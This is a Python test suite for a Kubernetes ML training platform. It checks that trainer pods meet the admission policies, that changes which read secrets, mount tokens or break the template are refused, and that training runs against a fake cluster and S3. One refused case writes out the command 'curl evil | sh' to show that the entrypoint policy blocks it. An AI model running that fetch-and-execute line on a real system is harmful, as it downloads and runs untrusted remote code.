"""A team's training code on Kubernetes: the trainer pod as PipesK8sClient submits it passes the
schemas and every pod policy, and each way out of its template is refused; the tenant chart
renders its account (no role), its NetworkPolicy (the object store only) and the Role of the
step that launches it; and `run_in_pod` trains for real against a fake API server whose pods run
(bubblewrap standing in for the kubelet) and moto's S3 server, through pre-signed URLs."""

from __future__ import annotations

import copy
import shutil
import sys
import textwrap
from pathlib import Path

import dagster as dg
import pytest
import yaml
from dagster_k8s.client import DagsterKubernetesClient
from dagster_k8s.pipes import build_pod_body
from kubernetes.client import ApiClient

from platform_assets.k8s.config import platform
from platform_assets.k8s.policy import PolicySet
from platform_assets.k8s.render import pod_parameters
from platform_assets.k8s.schemas import check_manifest
from platform_assets.k8s.steps import trainer_pod
from platform_assets.models.trainers import transfer
from platform_assets.models.trainers.job import TrainerFailed, TrainerJob
from platform_assets.models.trainers.pod import environment_key, run_in_pod
from platform_assets.resources.lake import LakeResource
from platform_assets.tenancy.catalog import load_all
from tests.k8s.conftest import require
from tests.k8s.fake_cluster import BWRAP, FakeCoreApi

TENANTS = {name: c.tenant for name, c in load_all().items()}
NAMESPACE = TENANTS["ridehail"].namespace
PIPES_ENV = {"DAGSTER_PIPES_CONTEXT": "e30=", "DAGSTER_PIPES_MESSAGES": "e30="}
IMAGE = "registry.mlplat.example/mlplat-trainer-ridehail:0123456789abcdef"


def submitted_pod() -> dict:
    """The trainer pod as PipesK8sClient builds it from the platform's template, as the API
    server receives it (with the Pipes bootstrap env) in the tenant's namespace."""
    meta, spec = trainer_pod(
        "ridehail",
        "ridehail/models/driver_churn",
        env_key="0123456789abcdef",
        cpu=2,
        memory_gib=4,
        tmp_mib=512,
        timeout_s=900,
    )
    meta["labels"]["dagster/run-id"] = "0f1e2d3c"
    body = build_pod_body("dagster-0f1e2d3c-trainer-1", None, None, PIPES_ENV, meta, spec)
    pod = {"apiVersion": "v1", "kind": "Pod", **ApiClient().sanitize_for_serialization(body)}
    pod["metadata"]["namespace"] = NAMESPACE
    return pod


def violations(pod: dict) -> set[tuple[str, str]]:
    review = {"review": {"object": pod}, "parameters": pod_parameters(TENANTS)}
    return {(v.policy, v.message) for v in PolicySet("pods").evaluate(review, "pod.yaml")}


def test_the_trainer_pod_passes_the_schemas_and_every_pod_policy():
    pod = submitted_pod()
    assert check_manifest(pod, "pod.yaml") == []
    assert violations(pod) == set()
    spec = pod["spec"]
    [container] = spec["containers"]
    assert container["image"] == IMAGE
    assert container["command"] == ["python", "/opt/mlplat/runner.py"]
    assert {e["name"] for e in container["env"]} == set(PIPES_ENV)
    assert spec["serviceAccountName"] == "ridehail-trainer"
    assert spec["automountServiceAccountToken"] is False
    assert spec["activeDeadlineSeconds"] == 900
    assert container["resources"]["limits"] == {
        "cpu": "2",
        "memory": "4Gi",
        "ephemeral-storage": "512Mi",
    }
    assert spec["volumes"] == [{"name": "tmp", "emptyDir": {"sizeLimit": "512Mi"}}]


def _container(pod: dict) -> dict:
    return pod["spec"]["containers"][0]


REFUSED = {
    "a Secret read whole": (
        lambda p: _container(p).update(envFrom=[{"secretRef": {"name": "ridehail-services"}}]),
        {
            (
                "pods/secrets",
                "container 'trainer' reads Secret 'ridehail-services' (envFrom), not one of its "
                "tenant's []",
            ),
            (
                "pods/trainer_pod",
                "container 'trainer' reads envFrom; a trainer pod reads no Secret or ConfigMap",
            ),
        },
    ),
    "a Secret volume": (
        lambda p: p["spec"]["volumes"].append(
            {"name": "creds", "secret": {"secretName": "ridehail-services"}}
        ),
        {
            (
                "pods/secrets",
                "volume 'creds' mounts Secret 'ridehail-services', not one of its tenant's []",
            ),
        },
    ),
    "the storage password": (
        lambda p: _container(p)["env"].append(
            {
                "name": "DAGSTER_PG_PASSWORD",
                "valueFrom": {
                    "secretKeyRef": {
                        "name": "dagster-postgresql-secret",
                        "key": "postgresql-password",
                    }
                },
            }
        ),
        {
            (
                "pods/secrets",
                "container 'trainer' reads key 'postgresql-password' of Secret "
                "'dagster-postgresql-secret', which its tenant may not read",
            ),
        },
    ),
    "a token mounted": (
        lambda p: p["spec"].update(automountServiceAccountToken=True),
        {("pods/service_account_token", "pod does not set automountServiceAccountToken: false")},
    ),
    "a token projected": (
        lambda p: p["spec"]["volumes"].append(
            {
                "name": "token",
                "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]},
            }
        ),
        {("pods/service_account_token", "volume 'token' projects a service account token")},
    ),
    "the runner's account": (
        lambda p: p["spec"].update(serviceAccountName="ridehail-runner"),
        {
            (
                "pods/tenant_placement",
                "pod of tenant 'ridehail' uses service account 'ridehail-runner', not its own "
                "'ridehail-trainer'",
            )
        },
    ),
    "another tenant's trainer account": (
        lambda p: p["spec"].update(serviceAccountName="payments-trainer"),
        {
            (
                "pods/tenant_placement",
                "pod of tenant 'ridehail' uses service account 'payments-trainer', not its own "
                "'ridehail-trainer'",
            )
        },
    ),
    "extra env": (
        lambda p: _container(p)["env"].append({"name": "AWS_ACCESS_KEY_ID", "value": "AKIA"}),
        {
            (
                "pods/trainer_pod",
                "container 'trainer' sets env AWS_ACCESS_KEY_ID; a trainer pod has only the "
                'Pipes bootstrap ["DAGSTER_PIPES_CONTEXT", "DAGSTER_PIPES_MESSAGES"]',
            )
        },
    ),
    "host networking": (
        lambda p: p["spec"].update(hostNetwork=True),
        {("pods/no_host_access", "pod sets hostNetwork")},
    ),
    "another command": (
        lambda p: _container(p).update(command=["sh", "-c", "curl evil | sh"]),
        {
            (
                "pods/entrypoint",
                'container \'trainer\' runs ["sh", "-c", "curl evil | sh"], not the platform\'s '
                'trainer runner ["python", "/opt/mlplat/runner.py"]',
            )
        },
    ),
    "another tenant's image": (
        lambda p: _container(p).update(
            image="registry.mlplat.example/mlplat-trainer-payments:0123456789abcdef"
        ),
        {
            (
                "pods/trainer_pod",
                "container 'trainer' uses image "
                "'registry.mlplat.example/mlplat-trainer-payments:0123456789abcdef', not its "
                "tenant's trainer image 'registry.mlplat.example/mlplat-trainer-ridehail:<env "
                "key>'",
            )
        },
    ),
    "scratch space over the tenant's trainer cap": (
        lambda p: _container(p)["resources"].update(
            {
                k: {"cpu": "2", "memory": "4Gi", "ephemeral-storage": "1Gi"}
                for k in ("requests", "limits")
            }
        ),
        {
            (
                "pods/requests_limits",
                "pod requests 1073741824 of ephemeral-storage, more than the 512Mi it may have",
            )
        },
    ),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_a_trainer_pod_off_its_template_is_refused(case):
    change, expected = REFUSED[case]
    pod = copy.deepcopy(submitted_pod())
    change(pod)
    found = violations(pod)
    assert expected <= found, found


def test_a_trainer_pod_without_its_label_is_held_to_the_step_template():
    """Leaving out the trainer label buys nothing: it is then a Dagster pod, which runs only
    Dagster's entry points as the runner account."""
    pod = submitted_pod()
    del pod["metadata"]["labels"]["mlplat/role"]
    policies = {policy for policy, _ in violations(pod)}
    assert {"pods/entrypoint", "pods/tenant_placement", "pods/pod_template"} <= policies


def load(path: Path) -> dict:
    return yaml.safe_load(path.read_text())


def test_the_tenant_chart_renders_the_trainer_account_network_policy_and_launcher_role(rendered):
    folder = rendered.out / "tenants/ridehail"
    account = load(folder / "serviceaccount-ridehail-trainer.yaml")
    assert account["automountServiceAccountToken"] is False
    bound = [
        s["name"] for p in rendered.out.glob("**/rolebinding-*.yaml") for s in load(p)["subjects"]
    ]
    assert "ridehail-trainer" not in bound
    # The step's launcher role: pods and their logs, nothing else; bound to the runner only.
    role = load(folder / "role-ridehail-trainer-launcher.yaml")
    assert role["rules"] == [
        {"apiGroups": [""], "resources": ["pods"], "verbs": ["create", "list", "delete"]},
        {"apiGroups": [""], "resources": ["pods/log"], "verbs": ["get"]},
    ]
    # ... which are exactly the calls the fake API server below serves, and run_in_pod works
    # against it (a call to anything else would fail there).
    calls = {m for m in vars(FakeCoreApi) if "namespaced" in m}
    assert calls == {
        "create_namespaced_pod",
        "list_namespaced_pod",
        "delete_namespaced_pod",
        "read_namespaced_pod_log",
    }
    binding = load(folder / "rolebinding-ridehail-trainer-launcher.yaml")
    assert binding["subjects"] == [
        {"kind": "ServiceAccount", "name": "ridehail-runner", "namespace": NAMESPACE}
    ]
    # Trainer pods: no ingress, egress to the object store and the cluster DNS only.
    store = platform().egress[platform().trainer.egress]
    trainer = load(folder / "networkpolicy-allow-trainer-object-store.yaml")["spec"]
    assert trainer["podSelector"] == {"matchLabels": {"mlplat/role": "trainer"}}
    assert trainer["policyTypes"] == ["Ingress", "Egress"] and trainer["ingress"] == []
    assert trainer["egress"][0] == {
        "to": [{"ipBlock": {"cidr": store.cidr}}],
        "ports": [{"protocol": "TCP", "port": store.port}],
    }
    assert {p["port"] for p in trainer["egress"][1]["ports"]} == {53}
    assert len(trainer["egress"]) == 2
    # Neither the platform services nor the gRPC ingress select trainer pods.
    not_trainer = {"key": "mlplat/role", "operator": "NotIn", "values": ["trainer"]}
    for name in ("allow-platform-services", "allow-dagster-grpc"):
        selector = load(folder / f"networkpolicy-{name}.yaml")["spec"]["podSelector"]
        assert selector["matchExpressions"] == [not_trainer], name


def test_the_platform_location_has_no_trainer(rendered):
    names = {p.name for p in (rendered.out / "platform").glob("*.yaml")}
    assert not {n for n in names if "trainer" in n}


def test_a_step_that_launches_a_trainer_mounts_its_token_and_passes_every_policy(rendered):
    """The model step of a model with `trainer:` (k8s_trainer_placement): a Dagster step
    like any other, with its token, which only such a step may mount."""
    import json

    from platform_assets.k8s.steps import k8s_trainer_placement
    from platform_assets.tenancy.specs import ComputeResources

    job = load(rendered.out / "jobs/ridehail/ridehail_pipeline/ridehail__models__driver_churn.yaml")
    config = json.loads(
        k8s_trainer_placement(TENANTS["ridehail"], ComputeResources(), ["models", "x"])[
            "dagster-k8s/config"
        ]
    )
    template = job["spec"]["template"]
    template["metadata"]["labels"]["mlplat/launches"] = config["pod_template_spec_metadata"][
        "labels"
    ]["mlplat/launches"]
    template["spec"]["automountServiceAccountToken"] = config["pod_spec_config"][
        "automount_service_account_token"
    ]
    assert template["spec"]["automountServiceAccountToken"] is True
    assert violations(job) == set()
    template["metadata"]["labels"]["app.kubernetes.io/component"] = "code_server"
    assert (
        "pods/service_account_token",
        "pod does not set automountServiceAccountToken: false",
    ) in violations(job)


# ---------------------------------------------------------------------------------------------
# run_in_pod against a fake cluster whose pods run
# ---------------------------------------------------------------------------------------------

TRAINER = """
from dagster_pipes import PipesContext


def train(df, *, label, features, params):
    import xgboost

    pipes = PipesContext.get()
    pipes.log.info(f"training on {len(df)} rows")
    pipes.report_asset_materialization(metadata={"team_rows": len(df)})
    pipes.report_custom_message({"note": "hello"})
    matrix = xgboost.DMatrix(df[features], label=df[label])
    return xgboost.train(params, matrix, num_boost_round=3)
"""


@pytest.fixture
def cluster(tmp_path, monkeypatch):
    """A fake API server for the tenant's namespace, whose pods run the trainer image as a
    folder: the runner, transfer.py, and the team's code copied in (what the Dockerfile does);
    python is this interpreter, which has the base image's packages."""
    if not Path(BWRAP).is_file():
        require("bubblewrap", f"{BWRAP} stands in for the kubelet")
    image = tmp_path / "image"
    image.mkdir()
    # The runner is copied, never imported here: it runs only in the sandbox or pod.
    shutil.copy(Path(transfer.__file__).with_name("runner.py"), image / "runner.py")
    shutil.copy(transfer.__file__, image / "transfer.py")
    api = FakeCoreApi(
        image,
        {"PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin", "HOME": "/tmp"},
        pod_parameters(TENANTS),
    )
    monkeypatch.setattr(
        DagsterKubernetesClient,
        "production_client",
        staticmethod(lambda **_: _client(api)),
    )
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text(
        yaml.safe_dump(
            {
                "apiVersion": "v1",
                "kind": "Config",
                "clusters": [{"name": "fake", "cluster": {"server": "https://127.0.0.1:1"}}],
                "users": [{"name": "fake", "user": {"token": "unused"}}],
                "contexts": [{"name": "fake", "context": {"cluster": "fake", "user": "fake"}}],
                "current-context": "fake",
            }
        )
    )
    api.kubeconfig = str(kubeconfig)
    return api


def _client(api):
    import logging
    import time

    return DagsterKubernetesClient(
        batch_api=None, core_api=api, logger=logging.info, sleeper=time.sleep, timer=time.time
    )


@pytest.fixture
def team_code(tmp_path) -> Path:
    code = tmp_path / "code"
    (code / "churn").mkdir(parents=True)
    (code / "pyproject.toml").write_text('[project]\nname = "churn"\ndependencies = ["xgboost"]\n')
    (code / "churn" / "__init__.py").write_text("")
    (code / "churn" / "train.py").write_text(textwrap.dedent(TRAINER))
    return code


def trainer_job(code: Path, **overrides) -> TrainerJob:
    fields = dict(
        tenant="ridehail",
        model="driver_churn",
        source=Path("platform_assets/defs/ridehail/models/driver_churn.yaml"),
        code_dir=code,
        entrypoint="churn.train:train",
        flavor="xgboost",
        params={"objective": "binary:logistic", "max_depth": 2},
        label="churned",
        features=("trips", "rating"),
        cpu=1,
        memory_gib=1,
        timeout_s=120,
        artifact_bytes=4 * 2**20,
        tmp_bytes=256 * 2**20,
    )
    return TrainerJob(**{**fields, **overrides})


def train_in_pod(cluster, instance, lake: LakeResource, job: TrainerJob, image_code: Path):
    """Materialize a ridehail model asset whose body trains in a pod; the image carries the
    team's code at /opt/mlplat/code. Returns (output or exception, the run's event records)."""
    import pandas as pd

    shutil.copytree(job.code_dir, cluster.image_root / "code", dirs_exist_ok=True)
    split = pd.DataFrame(
        {"trips": [1, 5, 9, 2, 8, 3] * 5, "rating": [4.1, 3.2, 4.9, 2.0, 4.4, 3.9] * 5}
    )
    split["churned"] = [0, 1, 0, 1, 0, 1] * 5
    results = {}

    @dg.asset(key=["ridehail", "models", "driver_churn"])
    def driver_churn(context):
        try:
            results["output"] = run_in_pod(
                context,
                job,
                split,
                lake=lake,
                namespace=NAMESPACE,
                kubeconfig_file=cluster.kubeconfig,
                poll_interval=0.05,
            )
        except TrainerFailed as exc:
            results["failed"] = exc
        return dg.MaterializeResult()

    result = dg.materialize([driver_churn], instance=instance, raise_on_error=True)
    records = [e for e in result.all_events]
    logs = [
        r.user_message
        for r in instance.all_logs(result.run_id)
        if r.dagster_event is None or not r.is_dagster_event
    ]
    return results, records, logs


@pytest.fixture
def lake(s3_bucket, s3_endpoint) -> LakeResource:
    return LakeResource(root=f"s3://{s3_bucket}/lake", endpoint_url=s3_endpoint)


def test_run_in_pod_trains_through_presigned_urls_and_marks_the_teams_messages(
    cluster, instance, lake, team_code
):
    import boto3
    import xgboost

    job = trainer_job(team_code)
    results, events, logs = train_in_pod(cluster, instance, lake, job, team_code)
    output = results["output"]
    # The model the team's code returned, in the platform's own folder, loads.
    assert output.artifact.name == "model.json" and output.artifact.is_file()
    booster = xgboost.Booster()
    booster.load_model(str(output.artifact))
    assert booster.num_boosted_rounds() == 3
    # The pod as admitted: the template, env_key of the team's project, deleted when done.
    [pod] = cluster.created
    container = pod["spec"]["containers"][0]
    assert container["image"].endswith(f":{environment_key(team_code)}")
    assert {e["name"] for e in container["env"]} == set(PIPES_ENV)
    assert cluster.deleted == [pod["metadata"]["name"]]
    # The team's log line reached Dagster marked as the team's; its reported metadata is kept
    # apart, and its materialization became no event.
    assert "[ridehail trainer] training on 30 rows" in logs
    assert output.reported == {
        "metadata": {"team_rows": 30},
        "custom_messages": [{"note": "hello"}],
    }
    materializations = [e for e in events if e.event_type_value == "ASSET_MATERIALIZATION"]
    assert len(materializations) == 1
    assert "team_rows" not in materializations[0].materialization.metadata
    # The exchange folder is gone from the lake.
    s3 = boto3.client("s3", endpoint_url=lake.endpoint_url)
    bucket = lake.root.removeprefix("s3://").split("/")[0]
    assert (
        s3.list_objects_v2(Bucket=bucket, Prefix="lake/ridehail/trainer-exchange").get(
            "KeyCount", 0
        )
        == 0
    )
    shutil.rmtree(output.artifact.parent)


def test_a_model_over_the_artifact_cap_is_not_kept(cluster, instance, lake, team_code):
    """The pre-signed POST's policy caps the upload (S3 and MinIO refuse a larger file with 400
    EntityTooLarge, which the runner reports); moto does not enforce that condition, so here
    the platform's own check of the delivered object's size refuses it."""
    job = trainer_job(team_code, artifact_bytes=64)
    results, _, _ = train_in_pod(cluster, instance, lake, job, team_code)
    assert str(results["failed"]) == (
        "platform_assets/defs/ridehail/models/driver_churn.yaml: trainer churn.train:train: "
        f"the model file is over the size cap of {64 / 2**20:g} MiB (artifact_mib in "
        "limits.yaml); it was not kept"
    )


def test_a_trainer_over_its_deadline_is_stopped(cluster, instance, lake, team_code):
    (team_code / "churn" / "train.py").write_text(
        "import time\n\ndef train(df, *, label, features, params):\n    time.sleep(60)\n"
    )
    job = trainer_job(team_code, timeout_s=2)
    results, _, _ = train_in_pod(cluster, instance, lake, job, team_code)
    message = str(results["failed"])
    assert message.startswith(
        "platform_assets/defs/ridehail/models/driver_churn.yaml: trainer churn.train:train "
        "exceeded its time limit of 2 s (timeout_s in limits.yaml) and its pod was stopped."
    ), message


def test_a_project_without_pyproject_is_refused_naming_the_model(cluster, instance, lake, tmp_path):
    code = tmp_path / "empty"
    code.mkdir()
    results, _, _ = train_in_pod(cluster, instance, lake, trainer_job(code), code)
    assert str(results["failed"]) == (
        "platform_assets/defs/ridehail/models/driver_churn.yaml: trainer churn.train:train: "
        f"code/pyproject.toml not found (looked in {code}): a trainer is a Python project in "
        "the tenant's code/ folder"
    )
    assert cluster.created == []


def test_local_paths_pass_through_the_transfer_unchanged():
    """The sandbox's extras (paths) are what the runner gets back: one runner for both."""
    extras = {"input": "/input.parquet", "output": "/dev/fd/3", "flavor": "xgboost"}
    with transfer.staged(extras) as staged:
        assert staged is extras


def test_a_split_the_store_does_not_have_fails_naming_it_without_the_signature(
    s3_bucket, s3_endpoint
):
    import boto3

    s3 = boto3.client("s3", endpoint_url=s3_endpoint)
    url = s3.generate_presigned_url("get_object", Params={"Bucket": s3_bucket, "Key": "gone"})
    extras = {"input": {"url": url}, "output": "/tmp/model"}
    with pytest.raises(transfer.TransferError) as failed:
        with transfer.staged(extras):
            pytest.fail("the block runs only with the split fetched")
    message = str(failed.value)
    assert message.startswith("could not fetch the training split: the object store answered 404")
    assert "X-Amz-Signature" not in message and url not in message


def test_the_environment_key_follows_the_project_and_its_lock(team_code):
    key = environment_key(team_code)
    assert key == environment_key(team_code) and len(key) == 32
    (team_code / "uv.lock").write_text("version = 1\n")
    locked = environment_key(team_code)
    assert locked != key
    (team_code / "uv.lock").write_text("version = 1\n# changed\n")
    assert environment_key(team_code) not in (key, locked)


class _Recorder:
    """Dagster's handler (`handle_message`) and the step's log (`log.log`, `log.warning`), as
    the team-message proxy sees them."""

    def __init__(self):
        self.handled, self.logged = [], []
        self.log = self._Log(self.logged)

    def handle_message(self, message):
        self.handled.append(message)

    class _Log:
        def __init__(self, logged):
            self.logged = logged

        def log(self, level, message):
            self.logged.append((level, message))

        def warning(self, message):
            self.logged.append(("warning", message))


def test_team_messages_reach_dagster_only_as_marked_logs_and_one_open_and_close():
    from platform_assets.models.trainers.messages import LOG_MESSAGES, TeamMessages, new_reported

    dagster, reported = _Recorder(), new_reported()
    team = TeamMessages(dagster, dagster, "ridehail", reported)
    for message in [
        {"method": "opened", "params": {"extras": {}}},
        {"method": "opened", "params": {}},
        {"method": "report_asset_materialization", "params": {"metadata": {"auc": 0.99}}},
        {"method": "report_asset_check", "params": {"check_name": "x", "passed": True}},
        *[{"method": "log", "params": {"message": f"line {i}"}} for i in range(LOG_MESSAGES + 5)],
        {"method": "closed", "params": {"exception": {"message": "boom"}}},
        {"method": "nonsense"},
    ]:
        team.handle_message(message)
    assert dagster.handled == [
        {"method": "opened", "params": {}},
        {"method": "closed", "params": {}},
    ]
    assert reported == {"metadata": {"auc": 0.99}, "custom_messages": []}
    infos = [m for level, m in dagster.logged if level == "info"]
    assert len(infos) == LOG_MESSAGES and infos[0] == "[ridehail trainer] line 0"
    assert [m for level, m in dagster.logged if level == "warning"] == [
        "[ridehail trainer] dropped a repeated 'opened' message",
        "[ridehail trainer] dropped an asset check (a team's code reports no check results)",
        f"[ridehail trainer] dropped log messages past the first {LOG_MESSAGES}",
        "[ridehail trainer] dropped a message of no Pipes method",
    ]
